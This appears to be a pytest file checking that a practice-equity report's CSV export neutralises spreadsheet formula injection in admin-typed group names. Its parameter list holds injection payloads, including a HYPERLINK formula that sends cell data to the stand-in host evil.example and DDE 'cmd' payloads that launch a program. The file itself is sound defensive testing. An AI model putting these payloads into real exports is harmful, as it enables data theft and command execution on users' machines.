"""The report's CSV opens in a spreadsheet: group names are typed by the practice admin,
and a name a spreadsheet would run as a formula (=HYPERLINK(...) sending the sheet's other
cells away, =cmd|...) must arrive as text in the therapist's or supervisor's spreadsheet."""

import csv
import io

import pytest

from alongside.equity.models import ReportingGroup
from alongside.equity.tests.helpers import practice_of

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Black")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("label", FORMULAS)
def test_a_group_name_that_looks_like_a_formula_is_exported_as_text(cast, client, label):
    practice_of(cast, black=12, white=12)
    ReportingGroup.objects.filter(practice=cast.practice, label="Black").update(label=label)
    client.force_login(cast.river)
    response = client.get("/practice/equity/export.csv?by=ethnicity")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows for cell in row]
    assert any(label in cell for cell in cells), "the group is in the export"
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
